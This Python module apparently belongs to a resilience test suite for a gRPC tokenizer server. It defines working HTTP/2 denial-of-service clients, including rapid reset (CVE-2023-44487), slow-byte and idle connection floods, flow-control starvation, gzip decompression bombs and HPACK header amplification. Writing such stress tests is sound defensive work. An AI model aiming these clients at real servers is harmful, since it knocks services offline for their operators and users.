"""Hostile and broken clients.

Each takes an address, runs until it is stopped, and returns the number of things that it sent.
"""

from __future__ import annotations

import gzip
import random
import socket
import struct
from collections.abc import Callable
from contextlib import ExitStack, suppress
from functools import cache, partial
from time import monotonic, sleep
from typing import Final

from bytepair.v1 import context_pb2, stream_pb2, tokenizer_pb2

from support.http2 import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    FIRST_WINDOW,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    MAX_WINDOW,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Sender,
    connection,
    count,
    frame,
    headers,
    message,
)

#: Returns whether to continue.
Going = Callable[[], bool]


def going_for(seconds: float) -> Going:
    """Return a function that is true three times, and until this time is over."""
    until, first = monotonic() + seconds, iter((True,) * 3)
    return lambda: next(first, False) or monotonic() < until


def repeated_headers(rpc: str, fields: int) -> bytes:
    """Return the frames of a call's headers with `fields` more fields. Each takes one byte, a
    reference to an earlier field (RFC 7541, section 6.1)."""
    said = headers(rpc) + b"\x40\x01x\x01y" + b"\xbe" * fields
    parts = [said[start : start + 16_000] for start in range(0, len(said), 16_000)]
    kinds = [HEADERS] + [CONTINUATION] * (len(parts) - 1)
    flags = [0] * (len(parts) - 1) + [END_HEADERS]
    return b"".join(
        frame(kind, flag, 1, part) for kind, flag, part in zip(kinds, flags, parts, strict=True)
    )


def _drain(link: socket.socket) -> bytes:
    """Return all received data."""
    come = b""
    link.setblocking(False)
    try:
        while part := link.recv(1 << 16):
            come += part
    except BlockingIOError:
        pass
    finally:
        link.setblocking(True)
        link.settimeout(5)
    return come


def _again(address: str, going: Going, attack: Callable[[socket.socket], int]) -> int:
    """Run an attack on one connection after the other, because the server may close each."""
    sent = 0
    while going():
        try:
            with connection(address) as link:
                while going():
                    sent += attack(link)
                    _drain(link)
        except OSError:
            sleep(0.01)  # closed by the server, as it should be
    return sent


def silent_connections(address: str, going: Going) -> int:
    """Connects many times and sends nothing."""
    with ExitStack() as stack:
        for _ in range(200):
            stack.enter_context(connection(address, hello=b""))
        while going():
            sleep(0.05)
    return 200


def slow_bytes(address: str, going: Going) -> int:
    """Sends one byte per second on many connections."""
    said = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, headers("Count"))
    sent = 0
    with ExitStack() as stack:
        links = [stack.enter_context(connection(address, hello=b"")) for _ in range(50)]
        while going():
            for link in links:
                with suppress(OSError):
                    link.send(said[sent : sent + 1])
            sent += 1
            sleep(min(1.0, 0.05) if not going() else 1.0)
    return sent * len(links)


def unread_answers(address: str, going: Going) -> int:
    """Requests large answers with a flow-control window of 0."""
    no_room = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    raw = message(
        tokenizer_pb2.EncodeRequest(encoding="cl100k_base", text="a b " * 8_000).SerializeToString()
    )
    sent = 0
    with connection(address, hello=PREFACE + no_room) as link, suppress(OSError):
        sender = Sender(link)
        for stream in range(1, 2 * 500, 2):
            link.sendall(frame(HEADERS, END_HEADERS, stream, headers("Encode")))
            if not _in_parts(sender, stream, raw, END_STREAM, going):
                break
            sent += 1
        while going():
            sleep(0.05)
            sender.look()
    return sent


def incomplete_messages(address: str, going: Going) -> int:
    """Starts a thousand calls on one connection, and sends only the beginning of each message."""
    half = message(bytes(60_000), length=1_000_000)
    sent = 0
    with suppress(OSError), connection(address) as link:
        sender = Sender(link)
        for stream in range(1, 2 * 1_000, 2):
            link.sendall(frame(HEADERS, END_HEADERS, stream, headers("Count")))
            if not _in_parts(sender, stream, half, 0, going):
                break  # the server accepts no more on this connection
            sent += 1
        while going():
            sleep(0.05)
            sender.look()
    return sent


def renewed_incomplete_messages(
    address: str, going: Going, *, connections: int = 10, calls: int = 100
) -> int:
    """Starts calls on several connections and sends only the beginning of each message. For each
    call that the server ends, it starts another."""
    half = message(bytes(3_000), length=1_000_000)
    sent = 0
    with suppress(OSError), ExitStack() as stack:
        senders = []
        for _ in range(connections):
            link = stack.enter_context(connection(address))
            senders.append((link, Sender(link)))
        begun = [0] * connections
        while going():
            for index, (link, sender) in enumerate(senders):
                sender.look()
                while begun[index] < calls + sender.ended and going():
                    stream = 2 * begun[index] + 1
                    link.sendall(frame(HEADERS, END_HEADERS, stream, headers("Count")))
                    sender.data(stream, half, 0, going)
                    begun[index] += 1
                    sent += 1
            sleep(0.01)
    return sent


def full_speed_streams(address: str, going: Going) -> int:
    """Sends single ids in a thousand streams as fast as the connection accepts them, and reads the
    answers."""
    no_limits = (
        PREFACE
        + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, MAX_WINDOW))
        + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MAX_WINDOW - FIRST_WINDOW))
    )
    config = stream_pb2.DecodeStreamConfig(encoding="cl100k_base")
    first = message(stream_pb2.DecodeStreamRequest(config=config).SerializeToString())
    ids = message(stream_pb2.DecodeStreamRequest(ids=[15339]).SerializeToString()) * 100
    streams, sent = range(1, 2 * 1_000, 2), 0
    with suppress(OSError), connection(address, hello=no_limits) as link:
        sender = Sender(link)
        for stream in streams:
            link.sendall(frame(HEADERS, END_HEADERS, stream, headers("DecodeStream")))
            sender.data(stream, first, 0, going)
        for _ in range(FIRST_WINDOW // len(ids) - 1):
            for stream in streams:
                if not sender.data(stream, ids, 0, going):
                    return sent
                sent += 100
        while going():
            sleep(0.01)
            sender.look()
    return sent


def _in_parts(sender: Sender, stream: int, body: bytes, flags: int, going: Going) -> bool:
    """Send a body in frames, the last one with these flags. Returns whether all of it was sent."""
    starts = range(0, len(body), 16_000)
    return all(
        sender.data(stream, body[start : start + 16_000], flags * (start == starts[-1]), going)
        for start in starts
    )


def reset_calls(first: int, said: bytes) -> bytes:
    """Return a hundred calls that are reset at once, in streams from `first`, with the headers
    `said`."""
    calls = []
    for stream in range(first, first + 200, 2):
        calls.append(frame(HEADERS, END_HEADERS, stream, said))
        calls.append(frame(DATA, END_STREAM, stream, message(count())))
        calls.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
    return b"".join(calls)


def rapid_reset(address: str, going: Going, *, connections: int = 1) -> int:
    """Opens streams and resets them at once, as long as its connections live (CVE-2023-44487)."""
    sent, said = 0, headers("Count")
    while going():
        with suppress(OSError), ExitStack() as stack:
            links = [stack.enter_context(connection(address)) for _ in range(connections)]
            for stream in range(1, 1 << 31, 200):
                for link in links:
                    link.sendall(reset_calls(stream, said))
                    sent += 100
                    _drain(link)
                if not going():
                    break
    return sent


def new_connections(address: str, going: Going) -> int:
    """Opens connections as fast as possible, each for a hundred streams that it resets at once."""
    sent = 0
    said = PREFACE + frame(SETTINGS, 0, 0) + reset_calls(1, headers("Count"))
    while going():
        with suppress(OSError), connection(address, hello=said, seconds=1):
            sent += 1
    return sent


@cache
def _bomb() -> bytes:
    return message(gzip.compress(bytes(1 << 26)), compressed=True)


def prepare() -> None:
    """Prepare data whose making takes longer than some attacks."""
    _bomb()


def gzip_bombs(address: str, going: Going) -> int:
    """Sends small messages that decompress to 64 MiB."""
    bomb = _bomb()
    sent = 0
    while going():
        with suppress(OSError), connection(address) as link:
            link.sendall(frame(HEADERS, END_HEADERS, 1, headers("Count", encoding="gzip")))
            for start in range(0, len(bomb), 16_000):
                last = start + 16_000 >= len(bomb)
                link.sendall(
                    frame(DATA, END_STREAM if last else 0, 1, bomb[start : start + 16_000])
                )
            sent += 1
            link.settimeout(1)
            with suppress(OSError):
                link.recv(1 << 16)
    return sent


def gzip_to_health(address: str, going: Going) -> int:
    """Sends messages that decompress to 2 MB to the health service, which needs no credentials."""
    bomb = message(gzip.compress(bytes(2_000_000)), compressed=True)
    said = headers(
        "Watch",
        service="/grpc.health.v1.Health/",
        encoding="gzip",
        content_type="application/grpc-web+proto",
    )
    sent = 0
    while going():
        with suppress(OSError), connection(address, seconds=0.2) as link:
            for stream in range(1, 401, 2):
                link.sendall(frame(HEADERS, END_HEADERS, stream, said))
                link.sendall(frame(DATA, END_STREAM, stream, bomb))
                sent += 1
            while link.recv(1 << 16):
                pass
    return sent


def large_headers(address: str, going: Going) -> int:
    """Sends 10 KB of headers that decompress to 340 KB, and never acknowledges the server's
    settings: for such a client gRPC does not apply the server's limit but one of 16 MiB."""
    call = repeated_headers("Count", 10_000) + frame(DATA, END_STREAM, 1, message(count()))
    sent = 0
    while going():
        with suppress(OSError), connection(address) as link:
            link.sendall(call)
            sent += 1
            link.settimeout(1)
            while b"grpc-status" not in (got := link.recv(1 << 16)) and got:
                pass
    return sent


def _one_call(body: bytes, rpc: str = "Count") -> Callable[[str, Going], int]:
    """Sends calls with this message, each on a separate connection."""

    def attack(address: str, going: Going) -> int:
        sent = 0
        while going():
            with suppress(OSError), connection(address) as link:
                link.sendall(
                    frame(HEADERS, END_HEADERS, 1, headers(rpc)) + frame(DATA, END_STREAM, 1, body)
                )
                sent += 1
                link.settimeout(1)
                # Until the answer: other frames come first.
                while len(link.recv(1 << 16)) in range(1, 100):
                    pass
        return sent

    return attack


def wrong_lengths(address: str, going: Going) -> int:
    """Sends messages and frames whose declared length is wrong."""
    raw = count()
    bodies = [
        message(raw, length=0xFFFFFFFF),
        message(raw, length=len(raw) + 1),
        message(raw, length=1),
        b"\0\0",
        message(raw, compressed=True),
    ]
    sent = 0
    while going():
        for body in bodies:
            sent += _one_call(body)(address, _once())
        with suppress(OSError), connection(address) as link:
            link.sendall(b"\xff\xff\xff" + frame(DATA, 0, 1)[3:] + bytes(100_000))
            sent += 1
    return sent


def random_frames(address: str, going: Going) -> int:
    """Sends random frames and random bytes."""
    rng = random.Random(1)

    def attack(link: socket.socket) -> int:
        if rng.random() < 0.5:
            link.sendall(rng.randbytes(rng.randrange(1, 4096)))
        else:
            body = rng.randbytes(rng.randrange(200))
            link.sendall(frame(rng.randrange(12), rng.randrange(256), rng.randrange(9), body))
        return 1

    return _again(address, going, attack)


def _once() -> Going:
    left = iter((True,))
    return lambda: next(left, False)


#: Malformed requests, and one with text that is not UTF-8 (field 2 of Count).
not_protobuf: Final = _one_call(message(b"\xff" * 64))
not_utf8: Final = _one_call(message(b"\x0a\x0bcl100k_base\x12\x03a\xff\xfe"))

#: A small message whose answer takes a thousand times as long as a count.
costly_splits: Final = _one_call(
    message(
        context_pb2.SplitRequest(
            encoding="cl100k_base", text="qz" * 8000, max_tokens=1
        ).SerializeToString()
    ),
    "Split",
)

ATTACKS: Final[dict[str, Callable[[str, Going], int]]] = {
    "200 silent connections": silent_connections,
    "50 connections, a byte a second": slow_bytes,
    "500 large answers never read": unread_answers,
    "1,000 incomplete messages": incomplete_messages,
    "1,000 incomplete messages on ten connections, renewed": renewed_incomplete_messages,
    "1,000 streams at full speed": full_speed_streams,
    "streams opened and reset (rapid reset)": rapid_reset,
    "streams opened and reset on ten connections": partial(rapid_reset, connections=10),
    "a flood of new connections": new_connections,
    "gzip bombs of 64 MiB": gzip_bombs,
    "gzip bombs to the health service": gzip_to_health,
    "10,000 headers in 10 KB": large_headers,
    "wrong lengths": wrong_lengths,
    "random frames": random_frames,
    "invalid protobuf": not_protobuf,
    "invalid UTF-8": not_utf8,
    "16 KB of one word, split into single tokens": costly_splits,
}
